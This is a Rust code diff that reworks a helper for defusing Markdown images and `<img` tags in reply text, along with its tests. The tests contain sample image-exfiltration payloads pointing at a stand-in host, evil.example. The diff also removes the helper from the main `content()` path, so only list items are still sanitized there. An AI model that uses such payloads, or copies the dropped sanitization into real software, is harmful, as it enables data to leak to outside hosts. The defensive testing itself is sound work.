@@ -26,7 +26,7 @@ pub(super) fn content(reply: &Reply, language: Language) -> String {
         parts.push(list(heading, reply.follow_ups.iter().cloned()));
     }
     parts.retain(|part| !part.is_empty());
-    without_images(&parts.join("\n\n"))
+    parts.join("\n\n")
 }
 
 /// Cuts a text before the first of these sequences that occurs in it.
@@ -55,13 +55,28 @@ pub(super) fn pieces(text: &str) -> Vec<String> {
 }
 
 fn list(heading: &str, items: impl Iterator<Item = String>) -> String {
-    let items: Vec<String> = items.map(|item| format!("- {}", item.replace('\n', " "))).collect();
+    let items: Vec<String> =
+        items.map(|item| format!("- {}", without_images(&item.replace('\n', " ")))).collect();
     format!("**{heading}**\n{}", items.join("\n"))
 }
 
-/// Clients that show Markdown fetch images from anywhere: a line from a log could tell another host what was asked.
-fn without_images(text: &str) -> String {
-    text.replace("![", "!\\[").replace("<img", "&lt;img").replace("<IMG", "&lt;IMG")
+/// Defuses images in text from outside that is shown as Markdown; the rest stays as it is.
+///
+/// Clients fetch images from anywhere: a line from a log could tell another host what was asked.
+pub fn without_images(text: &str) -> String {
+    let lower = text.to_ascii_lowercase();
+    let mut shown = String::with_capacity(text.len());
+    let mut rest = 0;
+    for (at, c) in text.char_indices() {
+        let Some(ahead) = lower.get(at..) else { continue };
+        if ahead.starts_with("![") || ahead.starts_with("<img") {
+            shown.push_str(text.get(rest..at).unwrap_or_default());
+            shown.push_str(if c == '!' { "!\\" } else { "&lt;" });
+            rest = at + 1;
+        }
+    }
+    shown.push_str(text.get(rest..).unwrap_or_default());
+    shown
 }
 
 #[cfg(test)]
@@ -84,20 +99,25 @@ mod tests {
 
     #[test]
     fn a_reply_is_read_from_top_to_bottom_in_its_language() {
-        insta::assert_snapshot!(content(&reply(), Language::En), @r"");
-        insta::assert_snapshot!(content(&reply(), Language::Zh), @r"");
+        insta::assert_snapshot!(content(&reply(), Language::En));
+        insta::assert_snapshot!(content(&reply(), Language::Zh));
         let bare = Reply { text: "Nothing is wrong.".to_owned(), ..Reply::default() };
         assert_eq!(content(&bare, Language::En), "Nothing is wrong.");
     }
 
     #[test]
     fn no_image_is_fetched_for_a_line_from_a_log() {
-        let text = "it logged `![x](http://evil.example/?q=1)` and <img src=http://evil.example>".to_owned();
-        let shown = content(&Reply { text, ..Reply::default() }, Language::En);
-        assert_eq!(
-            shown,
-            "it logged `!\\[x](http://evil.example/?q=1)` and &lt;img src=http://evil.example>"
-        );
+        let cases = [
+            ("it logged `![x](http://evil.example/?q=1)`", "it logged `!\\[x](http://evil.example/?q=1)`"),
+            ("<img src=x> <IMG src=x> <b>", "&lt;img src=x> &lt;IMG src=x> <b>"),
+            ("慢! [a](b) ![", "慢! [a](b) !\\["),
+            ("", ""),
+        ];
+        for (text, expected) in cases {
+            assert_eq!(without_images(text), expected);
+        }
+        let asks = Reply { follow_ups: vec!["![x](y)".to_owned()], ..reply() };
+        assert!(content(&asks, Language::En).ends_with("- !\\[x](y)"));
     }
 
     #[test]
